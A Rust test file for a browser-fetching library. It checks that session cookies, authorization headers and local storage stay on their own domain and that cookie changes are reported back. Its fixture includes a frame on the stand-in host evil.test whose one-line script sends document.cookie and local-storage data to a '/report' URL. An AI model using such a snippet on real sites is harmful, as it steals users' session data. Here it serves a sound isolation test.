//! Stored sessions in the browser: cookies and local storage reach their domain alone.

use std::sync::{Arc, Mutex};

use rungs::core::request::Item;
use rungs::core::session::{
    CookieChange, OriginStorage, SessionCookie, SessionDomain, SessionState,
};
use rungs::fetch::Chrome;
use rungs::net::NetPolicy;
use rungs::ports::fetch::{AttemptSession, BrowserFetcher};
use rungs::testkit::site::{Site, SiteRequest, SiteResponse};
use serde_json::json;

use crate::{request, text};

/// A page that shows what it finds in its local storage, in a frame of another site too.
fn shop(request: &SiteRequest) -> SiteResponse {
    let shown = "<p id=found></p><script>found.textContent = 'token: ' + localStorage.getItem('token')</script>";
    match request.path.as_str() {
        "/away" => SiteResponse::redirect(302, "http://evil.test/own"),
        "/frame" => SiteResponse::html(
            "<script>new Image().src = '/report?' + localStorage.length + document.cookie</script>",
        ),
        "/own" => SiteResponse::html(shown),
        _ => SiteResponse::html(format!(
            "{shown}<img src='http://evil.test/image'><iframe src='http://evil.test/frame'></iframe>"
        ))
        .header("set-cookie", "sid=renewed; Path=/; HttpOnly"),
    }
}

#[tokio::test]
async fn a_session_reaches_its_domain_alone_and_is_renewed() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    let site = Site::start(move |request| {
        let cookie = request.header("cookie").unwrap_or_default().to_owned();
        let token = request.header("authorization").unwrap_or_default().to_owned();
        let entry = (request.host.clone(), request.path.clone(), cookie, token);
        log.lock().expect("no panic inside").push(entry);
        shop(request)
    });
    let network = NetPolicy::new().allow_network("127.0.0.0/8").expect("a network");
    let network =
        ["shop.test", "evil.test"].iter().fold(network, |it, host| it.resolve(host, site.addr()));
    let chrome = Chrome::new().network(network);
    let domain = SessionDomain::parse("http://shop.test").expect("a domain");
    let storage = [("token".to_owned(), "stored-s3cret".to_owned())];
    let state = SessionState::default()
        .with_cookies([
            SessionCookie::new("sid", "first", &domain),
            // Names that Chromium refuses with another domain or without `Secure`, and with them all cookies.
            SessionCookie::new(
                "__Host-a",
                "1",
                &SessionDomain::parse("shop.test").expect("a domain"),
            ),
            SessionCookie::new("__host-b", "1", &domain),
            SessionCookie::new("__Secure-c", "1", &domain),
        ])
        .with_headers([("Authorization".to_owned(), "Bearer s3cret".to_owned())])
        .with_storage([OriginStorage::new("http://shop.test", storage)]);
    let render = async |path: &str| {
        let session = AttemptSession::new(domain.clone(), state.clone());
        let request = request(&format!("http://shop.test{path}"), |_: &mut Item| {})
            .with_session(Some(session.clone()));
        (chrome.render(request).await.expect("a page"), session)
    };

    let (page, session) = render("/orders").await;
    let (away, _) = render("/away").await;

    assert!(text(&page).contains("token: stored-s3cret"), "{}", text(&page));
    assert!(text(&away).contains("token: null"), "{}", text(&away));
    let [CookieChange::Set(renewed)] = &session.take_changes()[..] else { panic!("one change") };
    assert_eq!((renewed.name.as_str(), renewed.value.as_str()), ("sid", "renewed"));
    assert!(renewed.http_only && renewed.domain == "shop.test");
    let seen = seen.lock().expect("no panic inside");
    let first = seen.iter().find(|it| it.0 == "shop.test" && it.1 == "/orders").expect("the page");
    assert_eq!((first.2.as_str(), first.3.as_str()), ("sid=first", "Bearer s3cret"));
    let others: Vec<_> = seen.iter().filter(|it| it.0 == "evil.test").collect();
    assert!(others.iter().any(|it| it.1 == "/image") && others.iter().any(|it| it.1 == "/own"));
    for (_, path, cookie, token) in others {
        assert_eq!((cookie.as_str(), token.as_str()), ("", ""), "{path}");
        assert!(!path.starts_with("/report") || path == "/report?0", "{path}");
    }
}

#[tokio::test]
async fn a_session_gets_back_what_the_site_changed_and_nothing_else() {
    let site = Site::start(|request| match request.path.as_str() {
        "/start" => SiteResponse::redirect(302, "http://shop.test/renew")
            .header("set-cookie", "hop=1; Path=/"),
        "/renew" => SiteResponse::html("<p>Renewed</p>")
            .header("set-cookie", "longer=1; Path=/; Max-Age=86400")
            .header("set-cookie", "gone=; Path=/; Max-Age=0")
            .header("set-cookie", "deep=1; Path=/deep/er"),
        _ => SiteResponse::html("<p>Other</p>"),
    });
    let network = NetPolicy::new().allow_network("127.0.0.0/8").expect("a network");
    let hosts = ["shop.test", "www.shop.test"];
    let network = hosts.iter().fold(network, |it, host| it.resolve(host, site.addr()));
    let chrome = Chrome::new().network(network);
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    let soon = now.expect("after 1970").as_secs() + 3_600;
    let cookie = |name: &str| json!({"name": name, "value": "1", "domain": "shop.test", "path": "/", "expires": soon});
    let state = json!({"cookies": [cookie("longer"), cookie("gone"), cookie("same")]});
    let state = SessionState::from_storage_state(&state).expect("a storage state");
    let domain = SessionDomain::parse("http://shop.test").expect("a domain");
    let session = AttemptSession::new(domain, state);
    let own = |it: &mut Item| {
        it.headers.push(("Cookie".to_owned(), "header=own".to_owned()));
        it.advanced.cookies.push(("option".to_owned(), "own".to_owned()));
    };
    let request = request("http://www.shop.test/start", own).with_session(Some(session.clone()));

    let page = chrome.render(request).await.expect("a page");

    assert!(text(&page).contains("Renewed"), "{}", text(&page));
    let changes = session.take_changes();
    let (mut set, mut removed) = (Vec::new(), Vec::new());
    for change in &changes {
        match change {
            CookieChange::Set(it) => set.push((it.name.as_str(), it.path.as_str())),
            CookieChange::Removed(it) => removed.push(it.name.as_str()),
        }
    }
    set.sort_unstable();
    assert_eq!(set, [("deep", "/deep/er"), ("hop", "/"), ("longer", "/")], "{changes:?}");
    assert_eq!(removed, ["gone"], "{changes:?}");
}
